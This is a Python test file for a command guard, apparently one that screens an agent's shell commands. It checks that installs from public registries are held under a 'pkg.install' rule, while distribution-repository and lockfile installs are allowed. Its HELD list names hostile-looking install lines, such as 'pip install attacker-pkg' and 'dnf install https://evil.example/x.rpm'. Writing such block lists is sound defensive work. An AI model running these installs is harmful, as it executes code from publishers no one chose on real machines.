"""Installs of software by name from registries anyone may publish to (red team s7, class
C19): the agent picks code whose author nobody chose (setup.py, npm lifecycle scripts), so
``pkg.install`` holds them. The distribution's curated repositories (apt, dnf, apk, zypper)
stay ordinary, as the issue promises (C24, apt removing conflicting packages, is a
documented residual risk); so do the project's own declared dependencies (``npm ci``,
``pip install -r requirements.txt``)."""

from __future__ import annotations

import pytest

from sshgate.guard import classify
from sshgate.guard.parse import parse
from sshgate.guard.safe import known_safe
from sshgate.policy.evaluate import classify_for, decide
from sshgate.policy.model import Action, Policy, RuleOverride

from .expect import table_tests

HELD = [
    # the red team's lines
    "pip install attacker-pkg",
    "python3 -m pip install attacker-pkg", "pip install --user attacker-pkg",
    "npm install -g attacker-pkg",
    # sources anyone may publish to, or that are no configured repository
    "brew tap evil/tap", "snap install foo", "snap refresh", "pacman -S nmap", "pacman -Syu",
    "apt-get install ./evil.deb", "dnf install https://evil.example/x.rpm",
    "apt-get install -y --allow-unauthenticated x",
    # language registries: publisher code
    "pip3 install requests", "pip install 'requests>=2.31'", "pip install -U requests",
    "pip install --upgrade pip attacker-pkg", "python3 -m pip install -q attacker",
    "pip install -r requirements.txt attacker", "uv pip install attacker", "uv add attacker",
    "pipx install attacker", "pipx run attacker", "npm install attacker", "npm i attacker",
    "npm install --save-dev attacker", "npm add attacker", "npm install --global attacker",
    "npm i -g npm attacker", "yarn add attacker", "yarn global add attacker",
    "pnpm add attacker", "pnpm add -g attacker", "bun add attacker", "gem install attacker",
    "cargo install attacker", "go install example.com/x@latest", "go get example.com/x",
    "composer require vendor/attacker", "poetry add attacker", "conda install attacker",
]

ALLOWED = [
    # the distribution's curated, signed repositories
    "sudo apt-get install -y jq", "sudo apt install -y htop", "apt-get -y install nginx",
    "apt-get install --reinstall openssh-server", "apt-get upgrade -y",
    "sudo dnf install -y git", "yum install httpd", "yum update", "dnf upgrade",
    "apk add curl", "apk upgrade", "brew install jq", "apt-get install -y nginx=1.24.0-1",
    "pip install -r requirements.txt", "python3 -m pip install -r requirements.txt",
    "python3 -m pip install --upgrade pip", "pip install -U pip setuptools wheel",
    "pip install -e .", "npm ci", "npm install", "npm ci && npm run build",
    "yarn install --frozen-lockfile", "pnpm install", "sudo apt-get update", "apt-get update",
    "apt list --installed", "apt-cache policy nginx", "apt-get install -s nginx",
    "apt-get install --dry-run exim4", "dpkg -l", "pip list --outdated", "npm outdated",
    "pip show requests", "brew list", "dnf check-update",
]

test_held, test_allowed = table_tests(HELD, ALLOWED)


def test_rule_names_the_class() -> None:
    for line in ("brew tap evil/tap", "pip install attacker-pkg", "npm install -g x"):
        assert "pkg.install" in {f.rule for f in classify(line).findings}, line


#: options the catalogue's install shapes allow: known safe by the catalogue (a site that sets
#: pkg.install to allow gets them), held only by the rule
RULE_ONLY = [
    "npm install express", "npm i -D typescript@5", "npm install @types/node", "yarn add lodash",
    "pip install requests", "pip install 'requests>=2,<3'", "pip install --upgrade --user black",
    "pip install --no-cache-dir requests==2.31.0",
]


@pytest.mark.parametrize("line", RULE_ONLY)
def test_install_is_known_safe_but_held_by_the_rule(line: str) -> None:
    c = classify(line)
    assert {f.rule for f in c.findings} == {"pkg.install"}, c.findings
    assert known_safe(parse(line).commands[-1]).entry is not None


@pytest.mark.parametrize("line", ["pip install attacker-pkg", "npm install -g x"])
def test_a_site_may_allow_installs(line: str) -> None:
    policy = Policy(rules=(RuleOverride("pkg.install", Action.ALLOW),))
    assert decide(policy, classify_for(policy, line)).action is Action.ALLOW
